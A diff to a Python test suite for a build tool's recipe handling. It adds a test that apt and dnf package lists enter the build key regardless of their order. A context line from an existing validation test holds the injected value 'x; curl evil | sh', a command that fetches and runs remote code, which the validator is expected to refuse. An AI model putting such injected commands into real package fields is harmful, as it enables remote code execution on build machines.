@@ -51,6 +51,28 @@ def test_a_package_name_that_is_not_one_is_refused_by_the_recipe_check(tmp_path)
         "system_packages.apt[1]: 'x; curl evil | sh': expected one package name")
 
 
+def test_the_package_list_is_in_the_build_key_whatever_its_order(tmp_path):
+    from farm.policy import load_defaults
+    from farm.recipes.buildkey import KeyMaker
+    from farm.recipes.reader import load_recipe
+
+    head = "name: {name}\nsource:\n  path: .\nlinks_torch: true\n"
+    bodies = {"none": "", "one": "system_packages:\n  apt: [libsparsehash-dev]\n",
+              "two": "system_packages:\n  apt: [libsparsehash-dev, zlib1g-dev]\n",
+              "dnf": "system_packages:\n  apt: [libsparsehash-dev]\n  dnf: [sparsehash-devel]\n",
+              "reordered": "system_packages:\n  apt: [zlib1g-dev, libsparsehash-dev]\n"}
+    defaults, recipes = load_defaults(), {}
+    for name, body in bodies.items():
+        (tmp_path / f"{name}.yml").write_text(head.format(name=name) + body)
+        recipes[name] = load_recipe(tmp_path / f"{name}.yml", defaults)
+    assert recipes["dnf"].build_relevant()["system_packages"] == {"apt": ["libsparsehash-dev"],
+                                                                   "dnf": ["sparsehash-devel"]}
+    keys = KeyMaker(defaults, recipes)
+    assert len({keys.recipe_digest(n) for n in recipes}) == len(bodies)
+    # (the digests also hold each recipe's name) the order the file lists them in is no input
+    assert recipes["reordered"].build_relevant()["system_packages"] == recipes["two"].build_relevant()["system_packages"]
+
+
 def test_the_host_runner_refuses_a_cell_whose_system_package_is_missing_before_any_work(tmp_path):
     if syspkgs.host_manager() is None:
         pytest.skip("this host has neither dpkg nor rpm")
